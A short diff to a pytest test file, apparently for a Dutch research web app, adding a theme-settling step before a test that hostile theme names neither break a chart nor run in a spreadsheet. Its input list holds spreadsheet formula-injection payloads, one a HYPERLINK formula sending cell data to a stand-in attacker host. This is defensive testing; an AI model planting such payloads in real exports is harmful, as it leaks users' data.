@@ -10,6 +10,7 @@ import io
 import pytest
 
 from security_world import add_document
+from theme_docs import settle_themes
 
 HOSTILE_THEMES = ["$\\foo$", "$x^2$ en $", '=HYPERLINK("http://aanvaller.example/?"&A1;"klik")', "+31 6 1234",
                   "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
@@ -29,6 +30,7 @@ def hostile(world, tmp_path):
 def test_hostile_theme_names_and_titles_neither_break_the_chart_nor_run_in_a_spreadsheet(hostile):
     """One test, because tagging the world's passages (the theme views need it) is slow."""
     researcher = hostile.client("onderzoeker")
+    settle_themes(researcher)
     chart = researcher.get("/themas/grafiek.svg")
     assert chart.status_code == 200 and chart.content.lstrip().startswith(b"<?xml")
     assert researcher.get("/themas").status_code == 200
